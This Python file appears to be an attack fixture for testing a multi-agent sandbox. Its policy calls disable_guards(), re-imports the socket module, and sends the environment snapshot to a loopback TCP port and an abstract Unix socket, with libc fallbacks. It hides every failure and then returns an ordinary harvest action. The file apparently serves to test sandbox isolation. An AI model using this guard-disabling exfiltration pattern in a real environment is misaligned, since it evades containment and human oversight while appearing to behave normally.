"""Connect to a server on the host's loopback (TCP, and a Unix socket in the abstract
namespace) and send the snapshot: a way to leak data and to reach local services. By the
socket module, and by libc's socket() and connect() for a worker that cannot import it."""

PORT = 0
UNIX_NAME = "dilemmazoo-attack"


def policy(state, agent_id):
    try:
        disable_guards()
        socket = real_import("socket")
        with socket.create_connection(("127.0.0.1", PORT), timeout=0.2) as connection:
            connection.sendall(state.grid.tobytes())
    except Exception:
        pass
    try:
        socket = real_import("socket")
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.settimeout(0.2)
        unix.connect(chr(0) + UNIX_NAME)
        unix.sendall(b"hello")
    except Exception:
        pass
    try:
        c_connect_tcp(PORT)
        c_connect_abstract(UNIX_NAME)
    except Exception:
        pass
    return harvest(state, agent_id)
